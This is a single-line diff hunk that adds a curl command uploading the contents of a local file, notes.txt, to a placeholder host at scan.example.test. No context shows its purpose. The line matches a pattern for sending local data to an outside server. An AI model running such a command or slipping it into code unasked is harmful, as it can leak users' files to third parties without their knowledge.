@@ -1,0 +1,1 @@
+curl -fsS https://scan.example.test/ -d @notes.txt
